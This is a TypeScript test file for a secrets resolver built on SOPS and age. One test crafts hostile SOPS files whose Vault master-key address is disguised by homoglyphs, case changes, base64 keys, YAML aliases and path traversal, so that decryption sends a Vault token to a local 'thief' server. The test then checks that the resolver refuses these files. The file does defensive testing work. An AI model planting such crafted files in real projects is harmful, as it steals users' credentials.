// @module-tag sops
/** What test/secrets/sops.test.ts says of a stand-in, of real SOPS; and what its own commands do to versions. */
import { execFile, execFileSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { allowedHosts } from "../../src/base/http/index.js";
import { currentVersion, resolve } from "../../src/core/secrets/index.js";
import { startSops } from "../secrets/sops/source.js";
import { describeSops, fixtures } from "../secrets/sops/suite.js";
import { describeSource } from "../secrets/sources/compliance.js";
import { canary, startThief } from "../security/thief.js";
import { ageTool, sopsTool } from "./tools.js";

describe("real SOPS", () => {
  describeSops("with real SOPS", sopsTool.program);
  describeSource("sops", () => startSops(sopsTool.program));

  test("a version stays the same as long as the encrypted text does: through other edits and new recipients, but not a new data key", async () => {
    const root = await mkdtemp(path.join(tmpdir(), "avatarops-real-sops-"));
    onTestFinished(() => rm(root, { recursive: true, force: true }));
    const run = (program: string, ...argv: string[]) =>
      execFileSync(program, argv, {
        cwd: root,
        stdio: ["ignore", "pipe", "ignore"],
        env: { PATH: path.dirname(sopsTool.program), SOPS_AGE_KEY_FILE: "key.txt" },
      });
    run(ageTool.program, "-o", "key.txt");
    const recipient = run(ageTool.program, "-y", "key.txt").toString().trim();
    run(ageTool.program, "-o", "second.txt");
    const other = run(ageTool.program, "-y", "second.txt").toString().trim();
    await writeFile(path.join(root, "a.yaml"), "llm:\n  api_key: one\n  spare: two\n");
    run(sopsTool.program, "encrypt", "--age", recipient, "--in-place", "a.yaml");

    const source = { from: "sops", path: "a.yaml", field: "llm.api_key" };
    const environment = {
      root,
      environment: { PATH: path.dirname(sopsTool.program), SOPS_AGE_KEY_FILE: path.join(root, "key.txt") },
    };
    const version = () => currentVersion(source, environment);
    const value = async () => (await resolve(source, environment)).reveal();

    const made = await version();
    run(sopsTool.program, "set", "a.yaml", '["llm"]["spare"]', '"three"');
    await writeFile(path.join(root, ".sops.yaml"), `creation_rules: [{ age: "${recipient},${other}" }]\n`);
    run(sopsTool.program, "updatekeys", "--yes", "a.yaml");
    expect([await version(), await value()]).toEqual([made, "one"]);

    run(sopsTool.program, "set", "a.yaml", '["llm"]["api_key"]', '"four"');
    const changed = await version();
    expect(changed).not.toBe(made);
    expect(await value()).toBe("four");

    run(sopsTool.program, "rotate", "--in-place", "a.yaml");
    expect(await version()).not.toBe(changed);
    expect(await value()).toBe("four");
  });

  test("a master key that sops would log in for is found however it is written", async () => {
    const root = await mkdtemp(path.join(tmpdir(), "avatarops-real-sops-"));
    onTestFinished(() => rm(root, { recursive: true, force: true }));
    const [yaml, dotenv] = await Promise.all(
      ["production.yaml", "production.env"].map((file) => readFile(path.join(fixtures, file), "utf8")),
    );
    const key = (address: string, more = "key_name: k") =>
      `hc_vault: [{ ${address}, engine_path: t, ${more}, created_at: "2026-01-01T00:00:00Z", enc: e }]`;
    const inYaml = (key: string) => yaml?.replace("sops:\n", `sops:\n    ${key}\n`) ?? "";
    const variables = (url: string) => {
      const entries = { vault_address: url, engine_path: "t", key_name: "k", enc: "e" };
      const lines = Object.entries({ ...entries, created_at: "2026-01-01T00:00:00Z" }).map(
        ([name, value]) => `sops_hc_vault__list_0__map_${name}=${value}`,
      );
      return `${dotenv}\n${lines.join("\n")}\n`;
    };
    const written: readonly (readonly [file: string, text: (url: string) => string, path: string])[] = [
      ["s.yaml", (url) => inYaml(key(`vault_address: "${url}"`)), "/v1/t/decrypt/k"],
      ["s.yaml", (url) => inYaml(key(`VAULT_address: "${url}"`)), "/v1/t/decrypt/k"],
      ["s.yaml", (url) => inYaml(key(`vault_addreſſ: "${url}"`)), "/v1/t/decrypt/k"],
      ["s.yaml", (url) => inYaml(key(`!!binary dmF1bHRfYWRkcmVzcw==: "${url}"`)), "/v1/t/decrypt/k"],
      ["s.yaml", (url) => `x: &a "${url}"\n${inYaml(key("vault_address: *a"))}`, "/v1/t/decrypt/k"],
      ["s.env", variables, "/v1/t/decrypt/k"],
      ["s.env", (url) => variables(`${url}/\u2028`), "/v1/t/decrypt/k"],
      ["s.yaml", (url) => inYaml(key(`vault_address: "${url}"`, "key_name: ../../kv/prod")), "/v1/kv/prod"],
    ];
    for (const [file, text, asked] of written) {
      const thief = await startThief();
      const hostile = text(thief.url);
      await writeFile(path.join(root, file), hostile);
      const environment = { PATH: path.dirname(sopsTool.program), HOME: root, VAULT_TOKEN: canary };
      await new Promise((ended) =>
        execFile(sopsTool.program, ["decrypt", file], { cwd: root, env: environment }, ended),
      );
      expect(thief.heard(), hostile).toContain(canary);
      expect(decodeURI(thief.heard()), hostile).toContain(asked);

      const before = thief.heard();
      const field = file === "s.env" ? "LLM_API_KEY" : "llm.api_key";
      const source = { from: "sops", path: file, field };
      const hosts = allowedHosts({ AVATAROPS_ALLOW_HOSTS: asked.includes("decrypt") ? "" : thief.host });
      await expect(resolve(source, { root, environment, ...(hosts ? { hosts } : {}) })).rejects.toMatchObject(
        { code: expect.stringMatching(/^(not-allowed|malformed)$/) },
      );
      expect(thief.heard(), hostile).toBe(before);
    }
  });
});
